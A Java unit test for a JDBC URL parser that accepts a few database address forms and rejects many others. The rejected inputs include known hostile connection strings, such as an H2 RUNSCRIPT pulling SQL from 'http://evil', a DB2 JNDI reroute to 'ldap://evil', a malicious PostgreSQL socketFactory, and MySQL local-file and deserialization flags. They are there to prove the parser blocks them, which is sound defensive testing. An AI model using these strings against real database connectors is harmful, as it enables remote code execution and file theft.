package io.patchbay.connector.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.patchbay.payload.StepException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlAddressTest {

    @Test
    void hasHostPortAndDatabase() throws Exception {
        assertThat(SqlAddress.parse("jdbc:postgresql://db.example.com/shop").url())
                .isEqualTo("jdbc:postgresql://db.example.com:5432/shop");
        assertThat(SqlAddress.parse("jdbc:h2:tcp://[::1]:9/shop").host()).isEqualTo("::1");
        assertThat(SqlAddress.parse("jdbc:mysql://db/shop").url()).isEqualTo("jdbc:mysql://db:3306/shop");
        assertThat(SqlAddress.parse("jdbc:sqlserver://db:14;databaseName=shop").url())
                .isEqualTo("jdbc:sqlserver://db:14/shop");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:hsqldb:hsql://db.example.com:9001/shop",
                "jdbc:oracle:thin:@//db.example.com:1521/shop",
                "jdbc:db2://db.example.com:50000/shop",
                "jdbc:derby://[::1]:1527/shop"
            })
    void isThatOfADroppedDriver(String url) throws Exception {
        SqlAddress address = SqlAddress.parse(url);

        assertThat(address.kind()).isEqualTo(SqlAddress.Kind.DROPPED);
        assertThat(address.url()).isEqualTo(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:tcp://db/shop;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:shop",
                "jdbc:h2:./data/store",
                "jdbc:h2:file:/etc/x",
                "jdbc:h2:tcp://db/../store",
                "jdbc:h2:tcp://db/mem:shop",
                "jdbc:postgresql://db/shop?socketFactory=org.example.Evil",
                "jdbc:postgresql://db,other/shop",
                "jdbc:postgresql://user@db/shop",
                "jdbc:postgresql:shop",
                "jdbc:postgresql://db/",
                "jdbc:postgresql://db/a b",
                "jdbc:postgresql://db/a\n",
                "jdbc:mysql://db/shop?allowLoadLocalInfile=true",
                "jdbc:mysql://db/shop&autoDeserialize=true",
                "jdbc:mysql://(host=db,port=3306)/shop",
                "jdbc:mariadb:replication://db,other/shop",
                "jdbc:mariadb:aurora://db:3306/shop",
                "jdbc:mariadb://address=(host=db)(port=3306)/shop",
                "jdbc:sqlserver://db;databaseName=shop;trustServerCertificate=true",
                "jdbc:sqlserver://db\\\\instance/shop",
                "jdbc:sqlserver://;serverName=db;databaseName=shop",
                "jdbc:hsqldb:file://db:9001/shop",
                "jdbc:hsqldb:hsql://db/shop",
                "jdbc:hsqldb:hsql://db:9001/shop;ifexists=true",
                "jdbc:oracle:thin:@db:1521/shop",
                "jdbc:oracle:thin:@ldap://db:389/cn",
                "jdbc:db2://db:50000/shop:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:derby:shop;create=true",
                "jdbc:sqlite://db:1/shop",
                "jdbc:h2:file://db:1/shop",
                "jdbc:postgresql:x://db:1/shop",
                "http://db/shop"
            })
    void hasNoOtherForm(String url) {
        assertThatThrownBy(() -> SqlAddress.parse(url))
                .isInstanceOf(StepException.class)
                .hasMessageContaining("is not like jdbc:postgresql://db.example.com:5432/shop");
    }
}
